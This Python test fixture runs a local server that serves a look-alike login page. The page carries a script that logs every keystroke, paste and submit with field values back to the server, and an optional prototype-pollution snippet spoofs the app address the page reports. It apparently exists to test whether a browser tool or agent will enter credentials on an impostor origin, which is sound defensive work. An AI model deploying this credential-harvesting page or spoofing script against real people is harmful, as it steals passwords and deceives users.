"""A page that looks like the sign-in form of an app, on an origin of its own, and keeps what it gets."""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from types import TracebackType

# The fields of the real form, the first one with the focus. Whatever happens in them is reported.
_PAGE = b"""<!doctype html><title>Log in</title><h1>Log In</h1>
<form method="post" action="/login">
<label>Username <input name="username" autocomplete="username" autofocus></label>
<label>Password <input type="password" name="password" autocomplete="current-password"></label>
<button>Login</button></form>
<script>
for (const kind of ["keydown", "beforeinput", "input", "change", "paste", "submit"])
  addEventListener(kind, event => navigator.sendBeacon("/seen",
    JSON.stringify({kind, field: event.target.name, value: event.target.value ?? ""})), true);
navigator.sendBeacon("/seen", JSON.stringify({kind: "shown"}));
</script>"""

# Puts another address into what a script of ours notes about the page.
_LIE = b"""<script>Object.defineProperty(Object.prototype, "alert",
  {set() { this.address = "%s/login"; }, get() { return ""; }});</script>"""


class LookAlike:
    """Runs in a thread until the end of the block. `seen` are its events; `posted` the bodies of forms.

    `pretends` is the address of an app that its page claims to be, "" for none.
    """

    pretends = ""

    def __init__(self) -> None:
        seen: list[dict[str, Any]] = []
        posted: list[str] = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler) -> None:
                lie = _LIE % self.pretends.encode() if self.pretends else b""
                handler._answer(_PAGE + lie)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers.get("content-length", 0))).decode()
                if self.path == "/seen":
                    seen.append(json.loads(body))
                    return self._answer(b"")
                posted.append(body)
                self._answer(_PAGE)

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, format: str, *args: Any) -> None:
                """Nothing on stderr."""

        self.seen, self.posted = seen, posted
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"

    @property
    def typed(self) -> list[dict[str, Any]]:
        """What happened in its fields."""
        return [each for each in self.seen if each["kind"] != "shown"]

    def __enter__(self) -> LookAlike:
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, trace: TracebackType | None
    ) -> None:
        self._server.shutdown()
        self._server.server_close()
